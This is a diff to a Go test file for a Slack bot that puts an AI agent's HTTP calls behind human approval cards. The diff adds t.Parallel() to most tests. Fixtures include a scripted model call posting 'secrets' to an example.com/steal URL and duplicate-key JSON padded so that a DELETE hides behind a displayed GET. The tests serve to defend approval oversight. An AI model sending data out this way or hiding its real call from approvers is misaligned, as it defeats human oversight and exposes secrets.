@@ -34,6 +34,7 @@ tools:
 // padding to push it off the card. No card is posted, nothing runs, and
 // the model is told why.
 func TestDuplicateKeyArgumentsNeverReachACard(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, "")
 	pad := strings.Repeat("x", 3000)
 	args := fmt.Sprintf(`{"method":"GET","url":%q,"headers":{"X-Pad":%q},"method":"DELETE","url":%q}`,
@@ -71,6 +72,7 @@ func TestDuplicateKeyArgumentsNeverReachACard(t *testing.T) {
 // A call to a host outside allow_hosts is an error to the model at once,
 // not a card that fails after someone approved it.
 func TestForbiddenHostGetsNoCard(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, gatePolicy)
 	h.model.Then(
 		llmtest.Reply("Posting.", call("c1", "POST", "http://example.com/steal", "secrets")),
@@ -92,6 +94,7 @@ func TestForbiddenHostGetsNoCard(t *testing.T) {
 // The card shows the method and the whole URL, however long the body, and
 // the approval runs exactly what the card showed.
 func TestCardShowsWhatRuns(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, "")
 	long := strings.Repeat("b", 5000)
 	h.model.Then(llmtest.Reply("Posting.", call("c1", "POST", h.target.URL+"/deploy?env=prod", long)), llmtest.Reply("Posted."))
@@ -119,6 +122,7 @@ func TestCardShowsWhatRuns(t *testing.T) {
 // An approver who replies in someone else's finished thread asks for the
 // next turn, and may not approve its calls with self_approval false.
 func TestReplyMakesItsAuthorTheRequester(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, gatePolicy)
 	root, card := h.deployFlow("Deployed.")
 	h.click(card, "approve", approver)
@@ -147,6 +151,11 @@ func TestReplyMakesItsAuthorTheRequester(t *testing.T) {
 // pending or outcome unknown; they are told so, and their Retry, Mark done
 // and Skip clicks are refused like an Approve would be.
 func TestOutsiderCannotRejectByReplying(t *testing.T) {
+	// Not in parallel: under load the click may come while the bot is
+	// still starting the conversation, which then runs the call before
+	// its intake records the command as started; killed or stopped there,
+	// the bot leaves the command to another, which a hold period later
+	// starts the conversation again and asks the model once more.
 	h := newHarness(t, gatePolicy)
 	h.target.HoldNext("POST /slow") // the bot is killed while it waits for the answer
 	h.model.Then(
@@ -199,6 +208,7 @@ func TestOutsiderCannotRejectByReplying(t *testing.T) {
 // A click is tied to its card's channel: the same button value clicked
 // from another channel decides nothing.
 func TestClickFromAnotherChannelIsRefused(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, "")
 	root, card := h.deployFlow("Deployed.")
 	body := slacktest.BlockActions(slacktest.Click{User: approver, Channel: "C0ELSEWHERE", MessageTS: card.TS,
@@ -215,6 +225,7 @@ func TestClickFromAnotherChannelIsRefused(t *testing.T) {
 // An edit corrected after an inline error is submitted again with the same
 // view id and hash, as Slack does; it is applied, not dropped as a repeat.
 func TestCorrectedEditWithTheSameViewHash(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, "")
 	root, card := h.deployFlow("Deployed.")
 	h.click(card, "edit", approver)
@@ -249,6 +260,7 @@ func TestCorrectedEditWithTheSameViewHash(t *testing.T) {
 // bot chat decides through the same door as Slack: pointed at a policy
 // with approvers, it refuses anyone else.
 func TestChatAppliesThePolicy(t *testing.T) {
+	t.Parallel()
 	h := newHarness(t, gatePolicy)
 	h.model.Then(llmtest.Reply("Deploying.", call("c1", "POST", h.target.URL+"/deploy", "v2")), llmtest.Reply("Deployed."))
 	cmd := exec.Command(botBinary, "chat", "--user", mallory, "--thread", "chat-gate")
@@ -276,6 +288,7 @@ func TestChatAppliesThePolicy(t *testing.T) {
 
 // The handlers never reach past the runner into the engine.
 func TestHandlersDoNotImportGraph(t *testing.T) {
+	t.Parallel()
 	out, err := exec.Command("go", "list", "-f", "{{.ImportPath}} {{.Imports}}", "../../handlers/...").CombinedOutput()
 	if err != nil {
 		t.Fatalf("go list: %v\n%s", err, out)
